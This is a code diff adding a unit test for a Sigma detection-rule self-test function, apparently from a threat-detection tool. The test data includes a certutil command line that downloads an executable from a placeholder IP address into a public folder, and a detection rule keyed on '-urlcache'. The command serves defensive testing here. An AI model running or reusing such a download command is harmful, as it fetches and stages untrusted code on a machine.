@@ -2,12 +2,23 @@ import { generateBuiltinRules } from '../templates/builtin-sigma-agent';
 import { observableEvents, type ObservableLike } from './observable-events';
 import { load } from 'js-yaml';
 import { benignBaseline } from './benign-baseline';
-import { noteBaselineFirings, selfTestRule } from './self-test';
+import { noteBaselineFirings, selfTestRule, selfTestRuleCompiled } from './self-test';
 
 const rule = (selection: string, category = 'process_creation'): string =>
   `title: T\nlogsource: {category: ${category}, product: windows}\ndetection:\n  sel:\n${selection}\n  condition: sel\n`;
 
 describe('selfTestRule', () => {
+  it('hands back the rule it compiled with the same result, and none for a rule that cannot run', () => {
+    const observables = [{ type: 'cmdline', value: 'certutil.exe -urlcache -split -f http://203.0.113.9/a.exe' }];
+    const text = rule("    CommandLine|contains: '-urlcache'");
+    const { result, compiled } = selfTestRuleCompiled(text, observables);
+    expect(result).toEqual(selfTestRule(text, observables));
+    expect(compiled?.matches({ CommandLine: 'certutil -urlcache' })).toBe(true);
+    const broken = selfTestRuleCompiled(rule("    CommandLine|re: '(unclosed'"), observables);
+    expect(broken.compiled).toBeUndefined();
+    expect(broken.result).toMatchObject({ fires: false, fired_on: [], error: expect.any(String) });
+  });
+
   it('fires when the rule matches the telemetry of an observable it was made from, naming which', () => {
     const observables = [
       { type: 'cmdline', value: 'certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\\Users\\Public\\a.exe' },
